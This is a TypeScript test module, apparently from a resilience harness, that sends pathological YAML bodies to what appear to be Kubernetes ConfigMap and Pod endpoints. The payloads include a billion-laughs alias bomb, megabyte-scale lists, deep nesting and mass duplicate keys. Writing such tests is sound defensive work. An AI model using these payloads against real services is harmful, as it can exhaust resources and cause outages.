/** YAML that grows when it is read. */
import type { Attack } from '../harness/index.ts';
import * as bodies from './bodies.ts';
import { CONFIG_MAPS, MEGABYTE, PODS, times } from './bodies.ts';
import { one, post } from './request.ts';

const billionLaughs = (levels: number, width: number): string =>
  [
    `l0: &l0 [${times(width, () => 'x').join(',')}]`,
    ...times(levels, (at) => `l${at + 1}: &l${at + 1} [${times(width, () => `*l${at}`).join(',')}]`),
  ].join('\n');

export const yaml: readonly Attack[] = [
  one('YAML: a list of 2 MB, an item a line', () =>
    post(CONFIG_MAPS, 'data:\n' + '- a\n'.repeat(500_000), bodies.YAML),
  ),
  one('YAML: a list of 2 MB in brackets', () => post(CONFIG_MAPS, `data: [${'a,'.repeat(MEGABYTE)}a]`, bodies.YAML)),
  one('YAML: 2 MB of empty maps', () => post(PODS, `spec: {containers: [${'{},'.repeat(700_000)}{}]}`, bodies.YAML)),
  one('YAML: billion laughs', () => post(CONFIG_MAPS, billionLaughs(9, 9), bodies.YAML)),
  one('YAML: aliases of a large list', () =>
    post(CONFIG_MAPS, `a: &a [${'x,'.repeat(100_000)}x]\nb: [${'*a,'.repeat(99)}*a]`, bodies.YAML),
  ),
  one('YAML: 300,000 anchors and aliases', () =>
    post(CONFIG_MAPS, `a: &a x\nb: [${'*a,'.repeat(300_000)}*a]`, bodies.YAML),
  ),
  one('YAML: a configuration of 1 MB as one text', () =>
    post(
      CONFIG_MAPS,
      `metadata: {generateName: y-}\ndata:\n  a: |\n${'    some line of text\n'.repeat(45_000)}`,
      bodies.YAML,
    ),
  ),
  one('YAML: deep nesting', () => post(CONFIG_MAPS, `${'{a: '.repeat(10_000)}1${'}'.repeat(10_000)}`, bodies.YAML)),
  one('YAML: indentation that never ends', () =>
    post(CONFIG_MAPS, times(1700, (at) => `${' '.repeat(at)}a:`).join('\n'), bodies.YAML),
  ),
  one('YAML: 2 MB of one quoted text', () => post(CONFIG_MAPS, `a: "${'\\n'.repeat(MEGABYTE)}"`, bodies.YAML)),
  one('YAML: 500,000 keys, all the same', () => post(CONFIG_MAPS, 'a: b\n'.repeat(500_000), bodies.YAML)),
];
